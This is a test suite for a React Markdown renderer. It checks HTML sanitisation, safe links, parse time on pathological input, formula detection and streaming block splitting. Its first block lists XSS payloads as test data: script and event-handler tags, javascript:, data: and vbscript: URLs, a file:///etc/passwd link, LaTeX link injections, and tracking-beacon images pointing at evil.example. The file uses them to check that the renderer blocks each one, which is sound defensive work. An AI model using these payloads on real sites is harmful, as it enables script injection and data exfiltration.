import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { splitBlocks } from '#app/components/markdown/blocks.ts'
import { readAtOnce } from '#app/components/markdown/budget.ts'
import { markFormulas } from '#app/components/markdown/dollars.ts'
import { Markdown } from '#app/components/markdown/markdown.tsx'
import { safeHref } from '#app/components/markdown/tame.ts'

const html = (text: string, growing = false) => renderToStaticMarkup(<Markdown text={text} growing={growing} />)

describe('what a text may not do', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script href="data:,alert(1)"/></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>@import "https://evil.example/x.css"</style>',
    '<a href="javascript:alert(1)">x</a>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:alert(1))',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](/settings)',
    '[x](https://user:pass@evil.example)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![beacon](https://evil.example/p.png?secret)',
    '![beacon][1]\n\n[1]: https://evil.example/p.png "t"',
    '- > ![beacon](https://evil.example/p.png)\n  > <img src="https://evil.example/q.png">',
    '| ![b](https://evil.example/p.png) |\n|---|\n| <img src=x> |',
    '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
    '```js"><script>alert(1)</script>\nx\n```',
    '$\\href{javascript:alert(1)}{x}$',
    '$\\includegraphics{https://evil.example/p.png}$',
    '$\\htmlStyle{background:url(https://evil.example)}{x}$',
    '$\\url{javascript:alert(1)}$',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:1)',
    'a <!-- --><img src=x>',
    '<![CDATA[<script>alert(1)</script>]]>',
  ])('%j runs nothing, fetches nothing, and leads nowhere it should not', (text) => {
    for (const out of [html(text), html(text, true), html(`# A\n\n${text}\n\n- b\n  ${text}`)]) {
      expect(out).not.toMatch(/<(script|img|svg(?! xmlns)|iframe|style|object|embed|form|link|meta|base|maction)\b/i)
      const tags = out.match(/<[a-z][^>]*>/gi) ?? []
      for (const tag of tags) expect(tag).not.toMatch(/\son\w+=|\ssrc=|xlink|javascript:|url\(|style="(?!text-align)/i)
      for (const [, href] of out.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:\/\/|mailto:|#m)/)
      for (const [link] of out.matchAll(/<a [^>]*href="[^#][^>]*>/g))
        expect(link).toContain('rel="noopener noreferrer"')
    }
  })

  it('a picture becomes a link by its name, HTML is shown as it was written', () => {
    expect(html('![A hive](https://example.org/a.png)')).toMatch(
      /<a href="https:\/\/example.org\/a.png"[^>]*>A hive<\/a>/,
    )
    expect(html('![](https://example.org/a.png)')).toContain('>Picture</a>')
    expect(html('Use <b>bold</b> tags')).toContain('Use &lt;b&gt;bold&lt;/b&gt; tags')
  })

  it.each<[string, string]>([
    ['quotes within quotes', '>'.repeat(5000) + ' deep'],
    ['lists within lists', '- '.repeat(5000) + 'x'],
    ['lists ever further right', Array.from({ length: 200 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n')],
    ['emphasis within emphasis', '*a **b '.repeat(3000) + 'a** b*'.repeat(3000)],
    ['opened and never closed', '*a '.repeat(55) + 'b_ '.repeat(8000)],
    ['brackets', '['.repeat(20_000)],
    ['pictures within pictures', '![['.repeat(9000)],
    ['backticks', 'a`'.repeat(15_000)],
    ['dollars', 'a$'.repeat(15_000)],
    ['formulas within formulas', `$${'\\frac{1}{'.repeat(2000)}${'}'.repeat(2000)}$`],
    ['a table without end', '| a | b |\n|---|---|\n' + '| 1 | 2 |\n'.repeat(20_000)],
    ['one long line', 'x'.repeat(500_000)],
    ['code without end', '```js\n' + 'const a = "b" // c\n'.repeat(20_000) + '```'],
  ])('is read in bounded time: %s', (_, text) => {
    const began = performance.now()
    expect(html(text).length).toBeGreaterThan(100)
    expect(performance.now() - began).toBeLessThan(5000)
  })

  it('takes only whole addresses that lead somewhere', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.webUrl(),
          fc.string(),
          fc.string().map((s) => `javascript:${s}`),
        ),
        (href) => {
          const safe = safeHref(href)
          if (safe !== undefined) expect(new URL(safe).protocol).toMatch(/^(https?|mailto):$/)
        },
      ),
    )
  })
})

describe('what a text may do', () => {
  it('code has its language, its colours and every character it was written with', () => {
    const out = html('```python\ndef f(x):\n    return "$HOME" # \\(x\\)\n```')
    expect(out).toContain('<span class="hljs-keyword">def</span>')
    expect(out).toContain('>python<')
    expect(out.replaceAll(/<[^>]+>/g, '')).toContain('def f(x):\n    return &quot;$HOME&quot; # \\(x\\)\n')
  })

  it.each(['$x^2$', '\\(x^2\\)', '$$x^2$$', '\\[x^2\\]', '$$\nx^2\n$$', '\\[\nx^2\n\\]', 'so $$x^2$$ it is'])(
    'a formula written %j is MathML',
    (text) => expect(html(text)).toContain('<msup><mi>x</mi><mn>2</mn></msup>'),
  )

  it.each(['It costs $5 and $10.', 'From $5 to $10', '`$x$`', 'US$ 5, A$ 6', '$ x $'])(
    '%j holds no formula',
    (text) => {
      expect(markFormulas(text).math).toBe(false)
      expect(html(text)).not.toContain('<math')
      expect(
        html(text)
          .replaceAll(/<[^>]+>/g, '')
          .trim(),
      ).toBe(text.replaceAll('`', ''))
    },
  )

  it('headings stand under the page’s own, boxes say what they are, tables scroll', () => {
    expect(html('# One\n\n###### Six')).toMatch(/<h3>One<\/h3>\s*<h6>Six<\/h6>/)
    expect(html('- [x] read\n- [ ] write')).toMatch(/aria-label="Done:".*read.*aria-label="To do:".*write/s)
    expect(html('| a | b |\n|---|--:|\n| 1 | 2 |')).toMatch(/overflow-x-auto.*<table>.*text-align:right/s)
  })

  it('footnotes of two texts do not meet', () => {
    const both = renderToStaticMarkup(
      <>
        <Markdown text={'a[^1]\n\n[^1]: b'} />
        <Markdown text={'c[^1]\n\n[^1]: d'} />
      </>,
    )
    const ids = [...both.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const [, target] of both.matchAll(/href="#([^"]+)"/g)) expect(ids).toContain(target)
  })

  it('what is half written is shown as what it will be', () => {
    expect(html('Look:\n```js\nconst a =', true)).toMatch(/<p>Look:<\/p>.*<pre.*const a =/s)
    expect(html('So\n\n$$\n\\frac{1}{', true)).toMatch(/whitespace-pre-wrap.*frac/s)
    expect(html('a **bold', true)).toContain('a **bold')
  })
})

const line = fc.constantFrom(
  'text',
  '- item',
  '  more',
  '```js',
  '```',
  '$$',
  'x $$',
  '',
  '',
  '> quote',
  '1. one',
  '| a |',
  '# H',
)
const markdown = fc.array(line, { maxLength: 40 }).map((lines) => lines.join('\n'))

describe('blocks', () => {
  it('are the text, nothing lost and nothing twice', () => {
    fc.assert(
      fc.property(markdown, (text) => {
        const joined = splitBlocks(text)
          .map((block) => block.text)
          .join('')
        expect(joined.trim()).toBe(text.trim())
      }),
    )
  })

  it('that are closed stay as they are while a text grows', () => {
    fc.assert(
      fc.property(markdown, fc.nat(), (text, cut) => {
        const lines = text.split('\n')
        const before = splitBlocks(lines.slice(0, cut % (lines.length + 1)).join('\n') + '\n')
        expect(splitBlocks(text).slice(0, Math.max(0, before.length - 1))).toEqual(before.slice(0, -1))
      }),
    )
    const texts = splitBlocks('One.\n\nTwo.\n\nThree.\n\nFour').map((block) => block.text.trim())
    expect(texts).toEqual(['One.', 'Two.', 'Three.', 'Four'])
  })
})

describe('what a page reads before it is sent', () => {
  const answer =
    'The bees keep **warm** by clustering.\n\n- A `hive` needs 15 kg of honey\n- A queen lays in spring\n\n'

  it('is every ordinary answer of a page, from the newest on', () => {
    expect(readAtOnce(Array.from({ length: 12 }, () => answer.repeat(5)))).toBe(12)
  })

  it('has an end, however much there is and whatever it is made of', () => {
    const texts = fc.array(fc.oneof(fc.string({ maxLength: 5000 }), fc.constant('$x$ '.repeat(2000))), {
      maxLength: 60,
    })
    fc.assert(
      fc.property(texts, (all) => {
        const read = all.slice(0, readAtOnce(all))
        const chars = read.join('').length
        return chars <= 40_000 && 13 * (read.join('').split('$').length - 1) <= 40_000
      }),
    )
  })

  it('leaves a text of formulas that would take minutes to the browser, as it was written', () => {
    const text = '$x$ '.repeat(50_000).trim()
    expect(html(text)).toBe(`<p class="whitespace-pre-wrap">${text}</p>`)
    expect(renderToStaticMarkup(<Markdown text="**x**" later />)).toBe('<p class="whitespace-pre-wrap">**x**</p>')
  })
})
